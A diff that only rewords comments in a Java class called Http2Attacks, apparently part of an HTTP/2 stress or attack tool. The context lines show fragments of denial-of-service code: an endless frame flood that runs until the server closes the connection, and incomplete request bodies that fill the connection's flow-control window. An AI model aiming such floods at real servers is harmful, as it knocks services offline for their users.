@@ -8,7 +8,7 @@ import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 
-/** Attacks by HTTP/2. */
+/** Attacks with HTTP/2. */
 final class Http2Attacks {
   private static final int DATA = 0;
   private static final int HEADERS = 1;
@@ -27,7 +27,7 @@ final class Http2Attacks {
 
   private Http2Attacks() {}
 
-  /** A frame of a flood. */
+  /** Makes the next frames of a flood. */
   private interface Next {
     byte[] frames(int stream);
   }
@@ -58,7 +58,7 @@ final class Http2Attacks {
         .array();
   }
 
-  /** A request by literal fields that are in no table. */
+  /** Returns a request of literal fields that are in no table. */
   private static byte[] head(int stream, int flags, String method, String path) {
     ByteArrayOutputStream block = new ByteArrayOutputStream();
     for (String text :
@@ -80,7 +80,7 @@ final class Http2Attacks {
     return socket;
   }
 
-  /** As much as the window of all takes. */
+  /** Sends incomplete bodies that fill the connection's window. */
   private static void unfinishedBodies(Target target, String from) throws IOException {
     try (Socket socket = connect(target, from, new byte[0])) {
       for (int i = 0; i < FRAMES; i++) {
@@ -108,7 +108,7 @@ final class Http2Attacks {
 
   private static void flood(Target target, String from, Next next) throws IOException {
     try (Socket socket = connect(target, from, new byte[0])) {
-      for (int stream = 1; ; stream += 2) { // until it is cut off
+      for (int stream = 1; ; stream += 2) { // until the server closes the connection
         socket.getOutputStream().write(next.frames(stream));
       }
     }
